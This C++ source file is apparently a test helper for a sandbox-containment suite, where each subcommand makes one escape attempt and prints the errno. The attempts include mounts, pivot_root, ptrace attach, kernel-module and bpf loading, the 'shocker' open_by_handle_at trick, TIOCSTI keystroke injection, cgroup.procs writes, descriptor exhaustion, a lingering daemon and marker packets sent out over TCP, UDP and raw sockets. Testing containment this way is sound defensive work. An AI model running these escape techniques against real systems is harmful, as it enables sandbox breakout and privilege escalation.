// flotilla_attack_helper: the hostile half of the attack suite. Copied into a sandbox with
// PutFile and run there; each subcommand makes one escape attempt with raw syscalls and prints
// one line per attempt, "<op> ok" or "<op> errno=<NAME>", so the test can assert the exact
// outcome. It never decides by itself whether containment held.
//
// It only ever runs inside a sandbox whose isolation the test has verified first.
#include <arpa/inet.h>
#include <fcntl.h>
#include <grp.h>
#include <linux/bpf.h>
#include <linux/if_ether.h>
#include <linux/keyctl.h>
#include <linux/perf_event.h>
#include <netinet/in.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <termios.h>
#include <unistd.h>

#include <cerrno>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <filesystem>
#include <fstream>
#include <functional>
#include <map>
#include <string>
#include <vector>

namespace {

using Args = std::vector<std::string>;

// Prints the outcome of one attempt: rc >= 0 is success.
void Report(const std::string& op, long rc, int err) {
  if (rc >= 0) {
    std::printf("%s ok\n", op.c_str());
  } else {
    const char* name = strerrorname_np(err);
    std::printf("%s errno=%s\n", op.c_str(), name != nullptr ? name : "?");
  }
  std::fflush(stdout);
}

void Attempt(const std::string& op, const std::function<long()>& call) {
  errno = 0;
  long rc = call();
  Report(op, rc, errno);
}

int Mount(const Args&) {
  ::mkdir("/tmp/attack-mnt", 0755);
  Attempt("mount_tmpfs", [] { return ::mount("none", "/tmp/attack-mnt", "tmpfs", 0, nullptr); });
  Attempt("mount_proc", [] { return ::mount("proc", "/tmp/attack-mnt", "proc", 0, nullptr); });
  Attempt("remount_root_rw", [] { return ::mount(nullptr, "/", nullptr, MS_REMOUNT, nullptr); });
  Attempt("umount_proc", [] { return ::umount2("/proc", MNT_DETACH); });
  return 0;
}

int PivotRoot(const Args&) {
  // The runc trick: pivot onto the current root and detach the old one.
  Attempt("pivot_root", [] { return ::syscall(SYS_pivot_root, "/", "/"); });
  return 0;
}

int Ptrace(const Args& args) {
  for (const std::string& a : args) {
    pid_t pid = std::atoi(a.c_str());
    Attempt("ptrace_attach_" + a, [pid] { return ::ptrace(PTRACE_ATTACH, pid, nullptr, nullptr); });
    Attempt("ptrace_seize_" + a, [pid] { return ::ptrace(PTRACE_SEIZE, pid, nullptr, nullptr); });
  }
  return 0;
}

int Module(const Args&) {
  static char image[64] = "\177ELF-not-a-module";
  Attempt("init_module", [] { return ::syscall(SYS_init_module, image, sizeof(image), ""); });
  int fd = ::open("/dev/null", O_RDONLY | O_CLOEXEC);
  Attempt("finit_module", [fd] { return ::syscall(SYS_finit_module, fd, "", 0); });
  ::close(fd);
  Attempt("delete_module", [] { return ::syscall(SYS_delete_module, "flotilla_no_such_module", O_NONBLOCK); });
  return 0;
}

int Bpf(const Args&) {
  union bpf_attr attr;
  std::memset(&attr, 0, sizeof(attr));
  attr.map_type = BPF_MAP_TYPE_ARRAY;
  attr.key_size = 4;
  attr.value_size = 4;
  attr.max_entries = 1;
  Attempt("bpf_map_create", [&attr] { return ::syscall(SYS_bpf, BPF_MAP_CREATE, &attr, sizeof(attr)); });
  // The smallest valid socket filter: r0 = 0; exit.
  struct bpf_insn insns[2];
  std::memset(insns, 0, sizeof(insns));
  insns[0].code = BPF_ALU64 | BPF_MOV | BPF_K;
  insns[0].dst_reg = BPF_REG_0;
  insns[1].code = BPF_JMP | BPF_EXIT;
  static char license[] = "GPL";
  std::memset(&attr, 0, sizeof(attr));
  attr.prog_type = BPF_PROG_TYPE_SOCKET_FILTER;
  attr.insn_cnt = 2;
  attr.insns = reinterpret_cast<__u64>(insns);
  attr.license = reinterpret_cast<__u64>(license);
  Attempt("bpf_prog_load", [&attr] { return ::syscall(SYS_bpf, BPF_PROG_LOAD, &attr, sizeof(attr)); });
  return 0;
}

int PerfEvent(const Args&) {
  struct perf_event_attr attr;
  std::memset(&attr, 0, sizeof(attr));
  attr.size = sizeof(attr);
  attr.type = PERF_TYPE_SOFTWARE;
  attr.config = PERF_COUNT_SW_CPU_CLOCK;
  attr.exclude_kernel = 1;
  attr.exclude_hv = 1;
  Attempt("perf_event_open_self", [&attr] { return ::syscall(SYS_perf_event_open, &attr, 0, -1, -1, 0); });
  Attempt("perf_event_open_cpu", [&attr] { return ::syscall(SYS_perf_event_open, &attr, -1, 0, -1, 0); });
  return 0;
}

int Keyctl(const Args&) {
  Attempt("keyctl_join", [] { return ::syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, "attack"); });
  Attempt("add_key", [] {
    return ::syscall(SYS_add_key, "user", "attack", "secret", 6, KEY_SPEC_PROCESS_KEYRING);
  });
  Attempt("request_key", [] { return ::syscall(SYS_request_key, "user", "attack", nullptr, 0); });
  return 0;
}

int Userns(const Args&) {
  Attempt("unshare_user", [] { return ::unshare(CLONE_NEWUSER); });
  Attempt("unshare_mnt", [] { return ::unshare(CLONE_NEWNS); });
  Attempt("clone_newuser", [] {
    long pid = ::syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, nullptr, nullptr, nullptr, nullptr);
    if (pid == 0) ::_exit(0);
    if (pid > 0) ::waitpid(static_cast<pid_t>(pid), nullptr, 0);
    return pid;
  });
  Attempt("clone3_newuser", [] {
    struct {
      uint64_t flags, pidfd, child_tid, parent_tid, exit_signal, stack, stack_size, tls;
    } args{};
    args.flags = CLONE_NEWUSER;
    args.exit_signal = SIGCHLD;
    long pid = ::syscall(SYS_clone3, &args, sizeof(args));
    if (pid == 0) ::_exit(0);
    if (pid > 0) ::waitpid(static_cast<pid_t>(pid), nullptr, 0);
    return pid;
  });
  // Its own namespace, so the open always succeeds and only setns itself can refuse.
  Attempt("setns_net", [] {
    int fd = ::open("/proc/self/ns/net", O_RDONLY | O_CLOEXEC);
    if (fd < 0) return -1L;
    long rc = ::setns(fd, CLONE_NEWNET);
    int saved = errno;
    ::close(fd);
    errno = saved;
    return rc;
  });
  return 0;
}

int OpenByHandle(const Args&) {
  // The "shocker" attack: a hand-made handle for inode 2 (a file system's root) of the
  // file system behind "/".
  struct {
    struct file_handle fh;
    unsigned char bytes[8];
  } h;
  std::memset(&h, 0, sizeof(h));
  h.fh.handle_bytes = 8;
  h.fh.handle_type = 1;  // FILEID_INO32_GEN
  h.bytes[0] = 2;
  int root = ::open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  Attempt("open_by_handle_at", [root, &h] { return ::syscall(SYS_open_by_handle_at, root, &h.fh, O_RDONLY); });
  ::close(root);
  return 0;
}

bool ParseAddr(const std::string& ip, const std::string& port, sockaddr_in* out) {
  std::memset(out, 0, sizeof(*out));
  out->sin_family = AF_INET;
  out->sin_port = htons(static_cast<uint16_t>(std::atoi(port.c_str())));
  return ::inet_pton(AF_INET, ip.c_str(), &out->sin_addr) == 1;
}

// Raw sockets, and if one opens, a hand-made UDP datagram to args[0]:args[1] through it.
int RawSocket(const Args& args) {
  int packet = -1;
  Attempt("socket_af_packet", [&packet] { return packet = ::socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL)); });
  int raw = -1;
  Attempt("socket_raw_udp", [&raw] { return raw = ::socket(AF_INET, SOCK_RAW, IPPROTO_UDP); });
  Attempt("socket_raw_icmp", [] {
    int fd = ::socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);
    if (fd >= 0) ::close(fd);
    return fd;
  });
  if (raw >= 0 && args.size() == 2) {
    sockaddr_in to;
    if (ParseAddr(args[0], args[1], &to)) {
      unsigned char datagram[8 + 9] = {0};
      uint16_t src = htons(40000);
      std::memcpy(datagram, &src, 2);
      std::memcpy(datagram + 2, &to.sin_port, 2);
      uint16_t len = htons(sizeof(datagram));
      std::memcpy(datagram + 4, &len, 2);
      std::memcpy(datagram + 8, "EXFILRAW!", 9);
      to.sin_port = 0;
      Attempt("raw_sendto", [&] {
        return ::sendto(raw, datagram, sizeof(datagram), 0, reinterpret_cast<sockaddr*>(&to), sizeof(to));
      });
    }
  }
  if (packet >= 0) ::close(packet);
  if (raw >= 0) ::close(raw);
  return 0;
}

// TCP connect to args[0]:args[1] with a one-second limit.
int Connect(const Args& args) {
  if (args.size() != 2) return 2;
  sockaddr_in to;
  if (!ParseAddr(args[0], args[1], &to)) return 2;
  int fd = ::socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
  if (fd < 0) {
    Report("tcp_socket", -1, errno);
    return 0;
  }
  int rc = ::connect(fd, reinterpret_cast<sockaddr*>(&to), sizeof(to));
  if (rc < 0 && errno == EINPROGRESS) {
    pollfd p{fd, POLLOUT, 0};
    if (::poll(&p, 1, 1000) == 1) {
      int err = 0;
      socklen_t len = sizeof(err);
      ::getsockopt(fd, SOL_SOCKET, SO_ERROR, &err, &len);
      rc = err == 0 ? 0 : -1;
      errno = err;
    } else {
      rc = -1;
      errno = ETIMEDOUT;
    }
  }
  Report("tcp_connect", rc, errno);
  if (rc == 0) {
    Attempt("tcp_send", [fd] { return ::send(fd, "EXFILTCP!", 9, MSG_NOSIGNAL); });
  }
  ::close(fd);
  return 0;
}

// UDP datagrams to args[0]:args[1], unconnected and connected.
int Udp(const Args& args) {
  if (args.size() != 2) return 2;
  sockaddr_in to;
  if (!ParseAddr(args[0], args[1], &to)) return 2;
  int fd = ::socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
  if (fd < 0) {
    Report("udp_socket", -1, errno);
    return 0;
  }
  Attempt("udp_sendto", [&] {
    return ::sendto(fd, "EXFILUDP!", 9, 0, reinterpret_cast<sockaddr*>(&to), sizeof(to));
  });
  Attempt("udp_connect", [&] { return ::connect(fd, reinterpret_cast<sockaddr*>(&to), sizeof(to)); });
  Attempt("udp_send", [&] { return ::send(fd, "EXFILUDP!", 9, 0); });
  ::close(fd);
  return 0;
}

int Tiocsti(const Args&) {
  char c = 'X';
  for (int fd = 0; fd <= 2; ++fd) {
    Attempt("tiocsti_fd" + std::to_string(fd), [fd, &c] { return ::ioctl(fd, TIOCSTI, &c); });
  }
  Attempt("open_dev_tty", [] {
    int fd = ::open("/dev/tty", O_RDWR | O_CLOEXEC);
    if (fd >= 0) ::close(fd);
    return fd;
  });
  int console = -1;
  Attempt("open_dev_console", [&console] { return console = ::open("/dev/console", O_RDWR | O_CLOEXEC); });
  if (console >= 0) {
    Attempt("tiocsti_console", [console, &c] { return ::ioctl(console, TIOCSTI, &c); });
    ::close(console);
  }
  return 0;
}

// Writes args[1] into the file args[0].
int Write(const Args& args) {
  if (args.size() != 2) return 2;
  Attempt("write " + args[0], [&args] {
    int fd = ::open(args[0].c_str(), O_WRONLY | O_CLOEXEC);
    if (fd < 0) return -1L;
    long rc = ::write(fd, args[1].data(), args[1].size());
    int saved = errno;
    ::close(fd);
    errno = saved;
    return rc;
  });
  return 0;
}

// Opens /dev/null until the process runs out of descriptors, after trying to raise its limit.
int Fds(const Args&) {
  struct rlimit big{1 << 20, 1 << 20};
  Attempt("setrlimit_nofile", [&big] { return ::setrlimit(RLIMIT_NOFILE, &big); });
  struct rlimit cur{};
  ::getrlimit(RLIMIT_NOFILE, &cur);
  long opened = 0;
  int err = 0;
  while (true) {
    int fd = ::open("/dev/null", O_RDONLY);
    if (fd < 0) {
      err = errno;
      break;
    }
    ++opened;
  }
  const char* name = strerrorname_np(err);
  std::printf("fds opened=%ld limit=%llu errno=%s\n", opened, static_cast<unsigned long long>(cur.rlim_cur),
              name != nullptr ? name : "?");
  return 0;
}

// Prints ids and no_new_privs: what a setuid binary would have gained.
int Ids(const Args&) {
  uid_t r, e, s;
  ::getresuid(&r, &e, &s);
  std::ifstream status("/proc/self/status");
  std::string line, nnp = "?";
  while (std::getline(status, line)) {
    if (line.rfind("NoNewPrivs:", 0) == 0) nnp = line.substr(line.find_first_not_of(" \t", 11));
  }
  std::printf("ids ruid=%u euid=%u suid=%u nnp=%s\n", r, e, s, nnp.c_str());
  return 0;
}

// Drops to uid/gid args[0] and executes args[1..].
int AsUser(const Args& args) {
  if (args.size() < 2) return 2;
  uid_t id = static_cast<uid_t>(std::atoi(args[0].c_str()));
  if (::setgroups(0, nullptr) != 0 || ::setresgid(id, id, id) != 0 || ::setresuid(id, id, id) != 0) {
    Report("drop_privileges", -1, errno);
    return 3;
  }
  std::vector<char*> argv;
  for (size_t i = 1; i < args.size(); ++i) argv.push_back(const_cast<char*>(args[i].c_str()));
  argv.push_back(nullptr);
  ::execv(argv[0], argv.data());
  Report("exec", -1, errno);
  return 3;
}

// Writes this process's pid into every cgroup.procs under /sys/fs/cgroup and /proc/1/root.
int CgroupEscape(const Args&) {
  std::string pid = std::to_string(::getpid());
  for (const char* top : {"/sys/fs/cgroup"}) {
    std::error_code ec;
    std::filesystem::recursive_directory_iterator it(top, std::filesystem::directory_options::skip_permission_denied,
                                                     ec);
    for (; !ec && it != std::filesystem::recursive_directory_iterator(); it.increment(ec)) {
      if (it->path().filename() != "cgroup.procs") continue;
      std::string path = it->path().string();
      Attempt("cgroup_procs " + path, [&path, &pid] {
        int fd = ::open(path.c_str(), O_WRONLY | O_CLOEXEC);
        if (fd < 0) return -1L;
        long rc = ::write(fd, pid.data(), pid.size());
        int saved = errno;
        ::close(fd);
        errno = saved;
        return rc;
      });
    }
  }
  std::ifstream self("/proc/self/cgroup");
  std::string line;
  while (std::getline(self, line)) std::printf("cgroup %s\n", line.c_str());
  return 0;
}

// Sends signal args[0] to each pid in args[1..] (-1: every process it may signal).
int Kill(const Args& args) {
  if (args.size() < 2) return 2;
  int sig = std::atoi(args[0].c_str());
  for (size_t i = 1; i < args.size(); ++i) {
    pid_t pid = std::atoi(args[i].c_str());
    if (pid == -1) ::signal(sig, SIG_IGN);  // kill(-1) spares the caller anyway; be explicit
    Attempt("kill_" + args[i], [pid, sig] { return ::kill(pid, sig); });
  }
  return 0;
}

// Lists the open descriptors of this process and of the sandbox's init, with what they point
// at ("fd <owner> <n> <target>"): a descriptor inherited from the host (a directory, a cgroup
// file) would let openat() walk out of the sandbox.
int FdScan(const Args&) {
  for (const char* owner : {"self", "1"}) {
    std::string dir = std::string("/proc/") + owner + "/fd";
    std::error_code ec;
    std::filesystem::directory_iterator it(dir, ec);
    if (ec) {
      std::printf("fd %s unreadable errno=%s\n", owner, strerrorname_np(ec.value()));
      continue;
    }
    for (; !ec && it != std::filesystem::directory_iterator(); it.increment(ec)) {
      char target[4096];
      ssize_t n = ::readlink(it->path().c_str(), target, sizeof(target) - 1);
      target[n > 0 ? n : 0] = '\0';
      std::printf("fd %s %s %s\n", owner, it->path().filename().c_str(), target);
    }
  }
  char cwd[4096];
  ssize_t n = ::readlink("/proc/self/cwd", cwd, sizeof(cwd) - 1);
  cwd[n > 0 ? n : 0] = '\0';
  std::printf("cwd %s\n", cwd);
  return 0;
}

// Leaves a daemon behind: fork, setsid, fork again; the grandchild sleeps args[0] seconds
// with every standard stream closed. Prints the grandchild's pid as seen inside.
int Daemon(const Args& args) {
  int seconds = args.empty() ? 600 : std::atoi(args[0].c_str());
  int pipefd[2];
  if (::pipe(pipefd) != 0) return 3;
  pid_t child = ::fork();
  if (child == 0) {
    ::setsid();
    pid_t grandchild = ::fork();
    if (grandchild == 0) {
      ::close(pipefd[0]);
      pid_t self = ::getpid();
      if (::write(pipefd[1], &self, sizeof(self)) != sizeof(self)) ::_exit(1);
      ::close(pipefd[1]);
      int null = ::open("/dev/null", O_RDWR);
      ::dup2(null, 0);
      ::dup2(null, 1);
      ::dup2(null, 2);
      ::signal(SIGHUP, SIG_IGN);
      ::signal(SIGTERM, SIG_IGN);
      ::sleep(static_cast<unsigned>(seconds));
      ::_exit(0);
    }
    ::_exit(0);
  }
  ::close(pipefd[1]);
  ::waitpid(child, nullptr, 0);
  pid_t daemon = 0;
  if (::read(pipefd[0], &daemon, sizeof(daemon)) != sizeof(daemon)) return 3;
  std::printf("daemon pid=%d\n", daemon);
  return 0;
}

}  // namespace

int main(int argc, char** argv) {
  static const std::map<std::string, int (*)(const Args&)> kOps = {
      {"mount", Mount},     {"pivot_root", PivotRoot}, {"ptrace", Ptrace},   {"module", Module},
      {"bpf", Bpf},         {"perf", PerfEvent},       {"keyctl", Keyctl},   {"userns", Userns},
      {"handle", OpenByHandle}, {"raw", RawSocket},    {"connect", Connect}, {"udp", Udp},
      {"tiocsti", Tiocsti}, {"write", Write},          {"fds", Fds},         {"ids", Ids},
      {"as_user", AsUser},  {"cgroup", CgroupEscape},  {"kill", Kill},       {"daemon", Daemon},
      {"fdscan", FdScan},
  };
  if (argc < 2 || kOps.count(argv[1]) == 0) {
    std::fprintf(stderr, "usage: flotilla_attack_helper OP [ARGS...]\n");
    return 2;
  }
  return kOps.at(argv[1])(Args(argv + 2, argv + argc));
}
